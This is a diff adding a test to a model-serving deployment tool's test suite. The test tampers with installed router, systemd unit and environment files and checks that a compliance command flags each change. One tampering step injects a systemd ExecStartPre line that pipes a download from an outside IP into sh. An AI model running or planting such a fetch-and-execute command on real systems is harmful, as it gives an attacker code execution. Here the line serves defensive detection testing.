@@ -207,3 +207,37 @@ def _make_legacy_current_again(layout: Layout) -> None:
     """--no-start laid release 2's units down and made it current; the host still runs the legacy release."""
     install_serving_units(layout, Systemd(layout.root), layout.release(1), read_api_key(layout.api_key))
     switch_current(layout, 1)
+
+
+def _failed(cli, root: Path) -> dict[str, list[str]]:  # type: ignore[no-untyped-def]
+    code, doc = cli("compliance", "check", "--root", str(root), "--instance", INSTANCE)
+    return {c["id"]: c["evidence"] for c in doc["data"]["checks"] if c["status"] == "fail"}
+
+
+def test_compliance_catches_a_tampered_router_and_r0_of_a_one_replica_instance(cli, bundle: Path, keys,  # type: ignore[no-untyped-def]
+                                                                               tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    assert _install(cli, bundle, keys, root)[0] == 0
+    assert _failed(cli, root) == {}
+    conf = root / "opt/gptoss" / INSTANCE / "router.conf"
+    original = conf.read_text()
+    # 1. The router's running configuration opened to every address: drift, and a bind beyond loopback.
+    conf.write_text(original.replace("listen 127.0.0.1:8000;", "listen 0.0.0.0:8000;"))
+    failed = _failed(cli, root)
+    assert set(failed) == {"config.release_files", "config.bind"}, failed
+    assert "+        listen 0.0.0.0:8000;" in failed["config.release_files"]
+    conf.write_text(original)
+    # 2. r0's unit given a command to run first: not the approved rendering, not gptossctl's template.
+    unit = root / f"etc/systemd/system/gptoss@{INSTANCE}-r0.service"
+    text = unit.read_text()
+    unit.write_text(text.replace("[Service]\n", "[Service]\nExecStartPre=/bin/sh -c 'curl http://203.0.113.7 | sh'\n"))
+    failed = _failed(cli, root)
+    assert set(failed) == {"config.unit"}, failed
+    assert any("gptoss@tiny-gpt-oss-r0.service" in e for e in failed["config.unit"])
+    unit.write_text(text)
+    # 3. r0's environment file sending usage statistics: caught per file.
+    env = root / "opt/gptoss" / INSTANCE / "releases/5/service-r0.env"
+    env.write_text(env.read_text().replace("VLLM_NO_USAGE_STATS=1", "VLLM_NO_USAGE_STATS=0"))
+    failed = _failed(cli, root)
+    assert {"config.release_files", "config.usage_stats"} <= set(failed), failed
+    assert any(e.startswith("service-r0.env: VLLM_NO_USAGE_STATS=0") for e in failed["config.usage_stats"])
